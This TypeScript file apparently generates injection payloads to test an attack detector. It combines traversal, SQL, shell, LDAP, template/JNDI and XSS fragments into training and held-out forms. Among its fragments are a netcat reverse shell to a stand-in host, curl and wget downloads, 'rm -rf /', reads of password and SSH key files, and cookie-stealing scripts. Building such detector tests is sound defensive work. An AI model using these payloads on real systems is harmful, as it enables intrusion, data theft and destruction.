/**
 * A grammar of publicly documented attacks by kind (OWASP's testing guide, the manuals of SQL, shells,
 * LDAP filters and template engines), written independently of the detector.
 */

/** Alternatives for each position of a payload; each payload uses one of each. */
export type Form = readonly (readonly string[])[];

const UP = ['../', '..\\', '....//', '..;/', '..%2f', '%2e%2e%2f', '..%5c', '%252e%252e%252f'];
const TARGETS = ['etc/passwd', 'etc/shadow', 'windows/win.ini', 'WEB-INF/web.xml', 'id_rsa', ''];
const COMMANDS = [
  ...['id', 'whoami', 'cat /etc/passwd', 'ls -la', 'uname -a', 'sleep 5', 'ping -c 3 127.0.0.1'],
  ...['curl http://x.example/a', 'wget x.example/a', 'nc -e /bin/sh x.example 4444', 'rm -rf /'],
  ...['/bin/sh -c id', 'powershell -c dir', 'python3 -c 1', 'bash -i', 'nslookup x.example'],
];
const CONDITIONS = [
  ...['OR 1=1', "or '1'='1'", 'and 1=2', "or 'a' like 'a'", 'and sleep(5)', 'or 2>1', 'OR 1 = 1'],
  ...['and benchmark(1000000,md5(1))', "and substring(version(),1,1)='5'", 'or not 1=2'],
  ...['AND (SELECT 1 FROM users)=1', 'and extractvalue(1,concat(0x7e,version()))'],
];
const QUERIES = [
  ...['union select null,null', 'UNION ALL SELECT user,password FROM users', 'UnIoN sElEcT 1,2,3'],
];
const STATEMENTS = [
  ...['drop table users', 'DELETE FROM users', "insert into users values('x')", 'shutdown'],
  ...["exec xp_cmdshell('dir')", "waitfor delay '0:0:5'", 'update users set admin=1'],
];
const QUOTES = ["'", '"', "')", "'))", "1'", "admin'", '1")', '-1'];
const ENDS = ['--', '-- ', '#', '/*', ';--', ''];
const EXPRESSIONS = ['7*7', 'config', "''.class", '7*"7"', 'self.__init__', 'request.args'];
const SCRIPTS = ['alert(1)', 'alert(document.cookie)', "fetch('//x.example')", 'eval(name)'];

export const GRAMMAR: Readonly<Record<string, readonly Form[]>> = {
  traversal: [
    [['', '/', 'images/', 'file=', './'], UP, ['', '../', '../../../../', '..\\..\\'], TARGETS],
    [['/var/www/', 'C:\\data\\', 'public/'], UP, UP, TARGETS],
  ],
  SQL: [
    [QUOTES, [' '], CONDITIONS, ENDS],
    [QUOTES, [' '], QUERIES, ENDS],
    [QUOTES, [';', '; '], STATEMENTS, ENDS],
    [
      ['', ' '],
      ['or 1=1', 'OR 2=2', "or 'x'='x'"],
      ['--', '-- ', '#', ''],
    ],
    [
      ["'", '1'],
      ['/**/', '+', '%20', '\t'],
      ['or', 'AND'],
      ['/**/', '+', '%20', '\t'],
      ['1=1', "'a'='a'"],
      ENDS,
    ],
    [
      ["'", "1'", "')"],
      [' order by 10', ' group by 1', ' having 1=1', ' limit 1'],
      ['--', '#', '/*'],
    ],
    [['x', 'admin', 'root', '1'], ["'"], ['--', '#', '/*', '-- x', ')--', ';']],
  ],
  shell: [
    [
      ['', 'x', 'a.txt', '127.0.0.1'],
      [';', '; ', '|', ' | ', '||', '&', '&& ', '\n', '%0a'],
      COMMANDS,
      ['', ';', ' #', ' &', '|'],
    ],
    [['', 'x', 'a='], ['$('], COMMANDS, [')']],
    [['', 'a=', ';'], ['`'], COMMANDS, ['`']],
  ],
  LDAP: [
    [
      ['*', 'admin', '', '*)', 'x*'],
      [')(', ')(|(', '(|(', ')(&('],
      ['uid', 'cn', 'objectclass', 'mail'],
      ['=*', '=x', '>=0'],
      ['', ')', '))', '))%00'],
    ],
    [
      ['admin', '*', 'x'],
      [')(&)', ')(|', '))(|(cn=*', ')(!(cn=x'],
    ],
  ],
  template: [
    [
      ['', 'x', 'Hello '],
      ['{{', '${', '#{', '<%= ', '{% ', '${{', '*{', '[[${'],
      EXPRESSIONS,
      ['}}', '}', ' %>', ' %}'],
    ],
    [['\u{24}{jndi:'], ['ldap', 'rmi', 'dns', '\u{24}{lower:l}dap'], ['://x.example/a}']],
  ],
  script: [
    [
      ['', '"', "'>", '">', 'x'],
      ['<script>', '<SCRIPT SRC=//x.example>', '</script><script>', '%3Cscript%3E'],
      SCRIPTS,
      ['</script>', '//', ''],
    ],
    [
      ['', '">', "'"],
      ['<img src=x ', '<svg ', '<body ', '<input autofocus ', '<details open '],
      ['onerror=', 'onload=', 'onfocus=', 'ontoggle='],
      SCRIPTS,
      ['>', ' x>', ''],
    ],
    [['', '"><a href="', "<iframe src='"], ['javascript:', 'JaVaScRiPt:', 'vbscript:'], SCRIPTS],
    [['" ', "' ", 'x" '], ['onmouseover=', 'onclick=', 'autofocus onfocus='], SCRIPTS],
  ],
};

/** Utilities of POSIX and other programs: a list compiled independently of the detector. */
const UTILITIES =
  'admin alias ar at awk basename batch bc cal chgrp chmod chown cksum cmp comm compress cp crontab csplit ctags cut date dd df diff dirname du ed env expand expr factor file find fold fuser getconf getopts grep hash head iconv id ipcrm ipcs jobs join kill ld link ln locale logger logname lp m4 mailx make man mesg mkdir mkfifo more mv newgrp nice nl nm nohup od paste patch pathchk pax ps pwd read renice rmdir sed sh sort split stty tabs tail tee test touch tput tr tsort tty type ulimit umask uname uniq unlink vi wait wc who xargs yacc zcat php ruby node reboot telnet ssh scp socat docker systemctl'.split(
    ' ',
  );
const ARGUMENTS = [' -x', ' -la /', ' /tmp/x', ' --help', ' ./x.sh', ' -e 1', ' $HOME', ' x.txt'];
const HANDLERS = 'start error load play toggle pointerover animationend wheel scroll beforeinput';
const CALLS = [
  ...['alert(1)', 'prompt`1`', "import('//x.example')", 'top.alert(1)', "setTimeout('x')"],
  ...["location='//x.example'", 'confirm(1)'],
];

/**
 * Forms that the detector was not fitted to: positions, commands and functions missing in the grammar
 * above, from published lists. Never fix a miss in these by adding its own words to the detector.
 */
export const HELD_OUT: Readonly<Record<string, readonly Form[]>> = {
  traversal: [
    [
      ['%2e%2e/', '..%c0%af', '..\\/', '.%2e/', '%252e%252e/', '..%ef%bc%8f', '..%u2215', '..//'],
      ['%2e%2e/', '..%c0%af', '../', '', '..%5c'],
      ['boot.ini', 'secret.key', '.ssh/id_rsa', 'app/config.yml', ''],
    ],
    [
      ['page=', 'lang/', 'en-GB/', '/static/', 'x.php?f=', '"'],
      ['../', '..\\', '%2e%2e%5c', '..%2F'],
      ['', '../', './'],
      ['x.php%00.png', 'logs/access.log', 'home', 'id_rsa'],
    ],
  ],
  SQL: [
    [
      ["'", "x'"],
      ['||', ' || ', '+'],
      ['(select password from users)', '(SELECT 1)', '(select @@version)'],
      ['||', '+'],
      ["'"],
    ],
    [
      ["'", "')", '1', '1)', '"'],
      [' and ', ' OR '],
      [
        ...['ascii(substring(user(),1,1))', 'length(database())', 'row(1,1)', '(select 1 from t)'],
        ...['if(1=1,1,0)', 'ord(mid(x,1,1))', 'cast(x as int)', 'case when 1=1 then 1 end'],
      ],
      ['>64', '=5', '<>1'],
      ['#', '-- -', ''],
    ],
    [
      ["'", "x'"],
      [' rlike ', ' regexp ', ' between ', ' not like ', ' like '],
      ["'a", "'a' and 'z", "'%"],
      ['', '#', '--'],
    ],
    [
      ['1 ', '0 ', '-1 ', "' "],
      ['and', 'or'],
      [' exists(select * from users)', ' true', ' 1 in (1)', ' 1 is not null', ' pg_sleep(5)'],
      ['--', '#', '-- x'],
    ],
    [
      ['1', "1'", "')", '"', 'x'],
      [';', '; '],
      [
        ...['select 1', 'SELECT pg_sleep(5)', 'show tables', 'call x()', 'grant all on t to x'],
        ...['merge into t', 'set role x', "copy t from program 'id'", 'backup database x'],
      ],
      ['--', '#', ';'],
    ],
    [
      ['1', "1'", 'x"'],
      [' into outfile ', ' into dumpfile '],
      ["'/tmp/x'", '"x.php"'],
      ['--', '#', ''],
    ],
    [
      ['1', '0', '-1'],
      ['-', '*', '^', '='],
      ['sleep(5)', '(select 1)', 'if(1=1,sleep(5),0)', '(select sleep(5))'],
      ['', '--'],
    ],
    [
      ["'", '"', 'x'],
      [' union', '/**/union', ' UNION ALL'],
      [' ', '/**/', '('],
      ['select ', 'SELECT+'],
      ['1', 'null,@@version', 'x from y'],
    ],
  ],
  shell: [
    [
      ['x', '', 'a.txt', '8.8.8.8', '"x"', '$(id)'],
      [';', '; ', '|', ' | ', '||', ' && ', '&', ' & '],
      UTILITIES,
      ARGUMENTS,
      ['', ' #', '; x', ' 2>&1', ' > /tmp/o'],
    ],
    [['x', '', 'a=', '"'], ['$('], UTILITIES, ['', ...ARGUMENTS], [')']],
    [['x', 'a=', '";', '|', '&'], ['`'], UTILITIES, ['', ...ARGUMENTS], ['`']],
    [['', 'x', '1', 'a.txt'], [';', '%3B'], UTILITIES, ['', ';', ' #', ' x']],
    [
      ['x;', '|', '&&'],
      [
        ...['{cat,/etc/passwd}', 'cat\u{24}{IFS}/etc/passwd', "c'a't /etc/passwd", 'c""at x'],
        ...['/b?n/c?t x', 'c\\at x', './x', '/usr/sbin/x', '$0 x', 'cat<x', 'exec 3<>x'],
      ],
    ],
  ],
  LDAP: [
    [
      ['*', 'x', 'a*', ''],
      ['))(', ')(', '))%00(', '))(|('],
      ['&(userPassword=*', '|(sn=a*', 'memberOf=cn=x', 'givenName~=x', '!(uid=x', 'uid:dn:=x'],
      ['', ')', '))'],
    ],
    [
      ['(&(', '(|(', '(!('],
      ['uid', 'sn', 'objectCategory'],
      ['=*', '=x', '<=z'],
      [')', '))', ')(cn=*))'],
    ],
  ],
  template: [
    [
      [
        '@(',
        '%{',
        '#set($x=',
        '{php}',
        '<#assign x=',
        '@{',
        '$!{',
        '{{{',
        '~{',
        '[=',
        '<%-',
        '<?=',
      ],
      ['7*7', '1+1', '7 * 7', "'a'.toUpperCase()"],
      [')', '}', '', '}}', ' %>'],
    ],
    [
      ['', 'Dear ', 'x='],
      [
        ...['{{#with "s" as |x|}}', '{% for x in y %}', '<%= File.open("/x") %>', '{{_self.env}}'],
        ...[
          '\u{24}{T(java.lang.Runtime)}',
          '#{T(x)}',
          '__\u{24}{7*7}__::.x',
          '<#if x>',
          '<!--#exec cmd="id"-->',
        ],
        ...['{{constructor.constructor("x")()}}', '\u{24}{"x"?new()("id")}', '{$smarty.version}'],
      ],
    ],
  ],
  script: [
    [
      ['', '">', "'>", '</title>', '--!>'],
      '<marquee ,<video src=x ,<math ,<object ,<audio src=x ,<select autofocus ,<x ,<a ,<p '.split(
        ',',
      ),
      HANDLERS.split(' ').map((event) => `on${event}=`),
      CALLS,
      ['>', '//'],
    ],
    [
      ['', '">', 'x'],
      ['<a href=', '<form action="', '<button formaction=', '<object data="', '<embed src='],
      ['javascript:', 'JAVASCRIPT:', 'javascript&colon;', 'java&#115;cript:'],
      CALLS,
      ['>', '">'],
    ],
    [["';", '";', "'-", '"-', "'+", '"}};', "\\';", '*/'], CALLS, ['//', "-'", '-"', ';//']],
    [
      ['', '">', "'"],
      [
        ...['<iframe srcdoc="x">', '<script src=//x.example>', '<ScRiPt >alert(1)</ScRiPt>'],
        ...['<base href=//x.example>', '<meta http-equiv=refresh content=0>', '<svg/onload=x>'],
        ...['<link rel=import href=//x.example>', '<style>@import "//x.example"</style>'],
      ],
    ],
  ],
};

/**
 * Attacks that look like text: a type contains `x | sort`, prose contains "cat & dog", and Markdown puts
 * words between backticks. Only well-known commands can be told from those; the rate is printed, not tested.
 */
export const READ_LIKE_TEXT: Readonly<Record<string, readonly Form[]>> = {
  'a bare word behind a separator': [[['x', 'a.txt'], [' | ', '|', ' & ', '&', '; '], UTILITIES]],
  'all of it between backticks': [[['`'], UTILITIES, ['', ...ARGUMENTS], ['`']]],
};

/** Every payload of a form, thinned evenly to the given number. */
export function payloadsOf(form: Form, atMost = 400): string[] {
  const all = form.reduce<string[]>(
    (heads, places) => heads.flatMap((head) => places.map((place) => head + place)),
    [''],
  );
  const step = Math.max(1, Math.ceil(all.length / atMost));
  // A step that is coprime to the numbers of alternatives, so that all of them occur.
  return all.filter((_, i) => (i * 7919) % step === 0);
}
